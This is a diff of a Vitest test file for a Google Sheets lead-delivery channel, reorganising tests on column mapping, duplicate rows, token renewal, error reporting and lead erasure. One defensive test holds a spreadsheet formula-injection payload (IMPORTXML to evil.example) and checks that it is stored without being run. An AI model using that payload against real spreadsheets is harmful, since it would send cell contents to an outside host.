@@ -1,4 +1,4 @@
-import { describe, expect, it, onTestFinished, vi } from 'vitest';
+import { expect, it, onTestFinished, vi } from 'vitest';
 import type { DeliveredLead } from '../../server/delivery/channels/Channel.ts';
 import type { ReceivedCall } from '../support/receivers.ts';
 import { storedLead } from '../support/sampleLead.ts';
@@ -21,115 +21,110 @@ const second = storedLead({ id: 8, protocol: 'D0D0-0001', name: 'Bia' });
 
 const isOf = (path: string) => (call: ReceivedCall) => call.url.includes(path);
 
-describe('the sheet', () => {
-  it('gets its titles once, then a row for each lead', async () => {
-    const vendor = await startSheets();
-    const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
-    for (const lead of [first, second]) expect(await deliver(vendor, lead)).toEqual(delivered);
-    expect(vendor.grid[0]).toEqual(titles);
-    const protocols = vendor.grid.slice(1).map((row) => row[0]);
-    expect(protocols).toEqual(['C7F3-A91D', 'D0D0-0001']);
-    expect(vendor.grid[1]).toEqual([
-      ...['C7F3-A91D', 7, '21/11/2026 09:05:07', 'Ana Conceição', '(11) 98765-4321'],
-      ...['ana@calcadosaurora.com.br', '', 'Via formulário rápido', '', 1200, 1499.9, ''],
-      ...['Formulário rápido', '/', '1', '', '', '', '', ''],
-    ]);
-  });
-
-  it('may have moved, renamed and additional columns: each value stays under its title', async () => {
-    const vendor = await startSheets();
-    vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
-    expect(await deliver(vendor)).toEqual(delivered);
-    expect(await deliver(vendor, second)).toEqual(delivered);
-    expect(vendor.grid.slice(2)).toEqual([
-      ['', '(11) 98765-4321', '', '', 'C7F3-A91D', 'Ana Conceição'],
-      ['', '(11) 98765-4321', '', '', 'D0D0-0001', 'Bia'],
-    ]);
-  });
-
-  it.each([
-    ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
-    ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
-  ])('that %s gets nothing until somebody fixes it', async (_, cells, reason) => {
-    const vendor = await startSheets();
-    vendor.grid.push(...cells);
-    const outcome = await deliver(vendor);
-    expect(outcome).toMatchObject({ kind: 'failed', failure: expect.stringContaining(reason) });
-    expect(vendor.grid).toEqual(cells);
-    expect(await findFaults(vendor)).toEqual([
-      expect.stringMatching(/^SHEETS_SPREADSHEET_ID: leads wait, as /),
-    ]);
-  });
-
-  it('runs no formula typed by a visitor', async () => {
-    const vendor = await startSheets();
-    const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
-    await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
-    expect(vendor.grid[1]?.[3]).toBe(formula);
-    expect(vendor.grid[1]?.[8]).toBe('+1+1');
-  });
+it('the sheet gets its titles once, then a row for each lead', async () => {
+  const vendor = await startSheets();
+  const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
+  for (const lead of [first, second]) expect(await deliver(vendor, lead)).toEqual(delivered);
+  expect(vendor.grid[0]).toEqual(titles);
+  const protocols = vendor.grid.slice(1).map((row) => row[0]);
+  expect(protocols).toEqual(['C7F3-A91D', 'D0D0-0001']);
+  expect(vendor.grid[1]).toEqual([
+    ...['C7F3-A91D', 7, '21/11/2026 09:05:07', 'Ana Conceição', '(11) 98765-4321'],
+    ...['ana@calcadosaurora.com.br', '', 'Via formulário rápido', '', 1200, 1499.9, ''],
+    ...['Formulário rápido', '/', '1', '', '', '', '', ''],
+  ]);
 });
 
-describe('a repeat', () => {
-  it('adds no row if the answer was lost', async () => {
-    const vendor = await startSheets();
-    await deliver(vendor);
-    vendor.losesAnswer = isOf(':append');
-    expect((await deliver(vendor, second)).kind).toBe('failed');
-    vendor.losesAnswer = null;
-    expect(await deliver(vendor, second)).toEqual(delivered);
-    expect(vendor.grid).toHaveLength(3);
-  });
-
-  it('is found in a column larger than a megabyte', async () => {
-    const vendor = await startSheets();
-    const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
-    vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
-    expect(await deliver(vendor)).toEqual(delivered);
-    expect(vendor.grid).toHaveLength(90_002);
-  });
+it('the sheet may have moved, renamed and additional columns: each value stays under its title', async () => {
+  const vendor = await startSheets();
+  vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
+  expect(await deliver(vendor)).toEqual(delivered);
+  expect(await deliver(vendor, second)).toEqual(delivered);
+  expect(vendor.grid.slice(2)).toEqual([
+    ['', '(11) 98765-4321', '', '', 'C7F3-A91D', 'Ana Conceição'],
+    ['', '(11) 98765-4321', '', '', 'D0D0-0001', 'Bia'],
+  ]);
 });
 
-describe('the token', () => {
-  it('is kept until shortly before its end', async () => {
-    const vendor = await startSheets();
-    vi.useFakeTimers({ toFake: ['Date'] });
-    onTestFinished(() => void vi.useRealTimers());
-    const start = Date.now();
-    const send = await setUpChannel('sheets', vendor).open();
-    await send(storedLead(), never);
-    vi.setSystemTime(start + 58 * 60_000);
-    await send(second, never);
-    expect(vendor.tokens()).toBe(1);
-    vi.setSystemTime(start + 59 * 60_000);
-    await send(second, never);
-    expect(vendor.tokens()).toBe(2);
-  });
+it.each([
+  ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
+  ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
+])('a sheet that %s gets nothing until somebody fixes it', async (_, cells, reason) => {
+  const vendor = await startSheets();
+  vendor.grid.push(...cells);
+  const outcome = await deliver(vendor);
+  expect(outcome).toMatchObject({ kind: 'failed', failure: expect.stringContaining(reason) });
+  expect(vendor.grid).toEqual(cells);
+  expect(await findFaults(vendor)).toEqual([
+    expect.stringMatching(/^SHEETS_SPREADSHEET_ID: leads wait, as /),
+  ]);
+});
 
-  it('is renewed once after 401, and not again in this attempt', async () => {
-    const vendor = await startSheets();
-    const send = await setUpChannel('sheets', vendor).open();
-    await send(storedLead(), never);
-    vendor.expireTokens();
-    expect(await send(second, never)).toEqual(delivered);
-    expect(vendor.tokens()).toBe(2);
-    vendor.interrupt = (response, call) => !isOf('/token')(call) && response.writeHead(401).end();
-    const outcome = await send(storedLead({ id: 9, protocol: null }), never);
-    expect(outcome).toEqual({ kind: 'failed', failure: 'HTTP 401' });
-    expect(vendor.tokens()).toBe(3);
-  });
+it('the sheet runs no formula typed by a visitor', async () => {
+  const vendor = await startSheets();
+  const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
+  await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
+  expect(vendor.grid[1]?.[3]).toBe(formula);
+  expect(vendor.grid[1]?.[8]).toBe('+1+1');
+});
+
+it('a repeat adds no row if the answer was lost', async () => {
+  const vendor = await startSheets();
+  await deliver(vendor);
+  vendor.losesAnswer = isOf(':append');
+  expect((await deliver(vendor, second)).kind).toBe('failed');
+  vendor.losesAnswer = null;
+  expect(await deliver(vendor, second)).toEqual(delivered);
+  expect(vendor.grid).toHaveLength(3);
+});
+
+it('a repeat is found in a column larger than a megabyte', async () => {
+  const vendor = await startSheets();
+  const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
+  vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
+  expect(await deliver(vendor)).toEqual(delivered);
+  expect(vendor.grid).toHaveLength(90_002);
+});
+
+it('the token is kept until shortly before its end', async () => {
+  const vendor = await startSheets();
+  vi.useFakeTimers({ toFake: ['Date'] });
+  onTestFinished(() => void vi.useRealTimers());
+  const start = Date.now();
+  const send = await setUpChannel('sheets', vendor).open();
+  await send(storedLead(), never);
+  vi.setSystemTime(start + 58 * 60_000);
+  await send(second, never);
+  expect(vendor.tokens()).toBe(1);
+  vi.setSystemTime(start + 59 * 60_000);
+  await send(second, never);
+  expect(vendor.tokens()).toBe(2);
+});
+
+it('the token is renewed once after 401, and not again in this attempt', async () => {
+  const vendor = await startSheets();
+  const send = await setUpChannel('sheets', vendor).open();
+  await send(storedLead(), never);
+  vendor.expireTokens();
+  expect(await send(second, never)).toEqual(delivered);
+  expect(vendor.tokens()).toBe(2);
+  vendor.interrupt = (response, call) => !isOf('/token')(call) && response.writeHead(401).end();
+  const outcome = await send(storedLead({ id: 9, protocol: null }), never);
+  expect(outcome).toEqual({ kind: 'failed', failure: 'HTTP 401' });
+  expect(vendor.tokens()).toBe(3);
 });
 
 const off =
   '{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"reason":"SERVICE_DISABLED"}]}}';
 
-describe('a spreadsheet that Google does not open', () => {
-  it.each([
-    [403, '{}', 'failed', 'HTTP 403'],
-    [403, off, 'failed', 'HTTP 403 SERVICE_DISABLED'],
-    [404, '{}', 'refused', 'HTTP 404'],
-    [503, '', 'failed', 'HTTP 503'],
-  ])('with %i %s: %s, and a line of doctor', async (status, body, kind, failure) => {
+it.each([
+  [403, '{}', 'failed', 'HTTP 403'],
+  [403, off, 'failed', 'HTTP 403 SERVICE_DISABLED'],
+  [404, '{}', 'refused', 'HTTP 404'],
+  [503, '', 'failed', 'HTTP 503'],
+])(
+  'a spreadsheet that Google does not open, with %i %s: %s, and a line of doctor',
+  async (status, body, kind, failure) => {
     const vendor = await startSheets();
     vendor.interrupt = (response, call) =>
       !isOf('/token')(call) && response.writeHead(status).end(body);
@@ -137,8 +132,8 @@ describe('a spreadsheet that Google does not open', () => {
     expect(await findFaults(vendor)).toEqual([
       expect.stringContaining(`Google does not show the spreadsheet (${failure}): share it`),
     ]);
-  });
-});
+  },
+);
 
 it('doctor reads token and title, writes nothing, and names the wrong key', async () => {
   const vendor = await startSheets();
@@ -150,18 +145,16 @@ it('doctor reads token and title, writes nothing, and names the wrong key', asyn
   ]);
 });
 
-describe('erasing a lead', () => {
-  const erase = (vendor: Env) => setUpChannel('sheets', vendor).erase();
+const erase = (vendor: Env) => setUpChannel('sheets', vendor).erase();
 
-  it('deletes its rows wherever they are, and no other lead’s', async () => {
-    const vendor = await startSheets();
-    const twin = storedLead({ id: 8, name: 'Bia' });
-    for (const lead of [storedLead(), twin, second]) await deliver(vendor, lead);
-    const [own] = vendor.grid.splice(1, 1);
-    vendor.grid.push(own ?? [], ['à mão'], own ?? []);
-    expect(await erase(vendor)).toEqual({ kind: 'erased' });
-    expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Bia', 'Bia', undefined]);
-    expect(await erase(vendor)).toEqual({ kind: 'absent' });
-    expect(vendor.grid).toHaveLength(4);
-  });
+it('an erasure deletes a lead’s rows wherever they are, and no other lead’s', async () => {
+  const vendor = await startSheets();
+  const twin = storedLead({ id: 8, name: 'Bia' });
+  for (const lead of [storedLead(), twin, second]) await deliver(vendor, lead);
+  const [own] = vendor.grid.splice(1, 1);
+  vendor.grid.push(own ?? [], ['à mão'], own ?? []);
+  expect(await erase(vendor)).toEqual({ kind: 'erased' });
+  expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Bia', 'Bia', undefined]);
+  expect(await erase(vendor)).toEqual({ kind: 'absent' });
+  expect(vendor.grid).toHaveLength(4);
 });
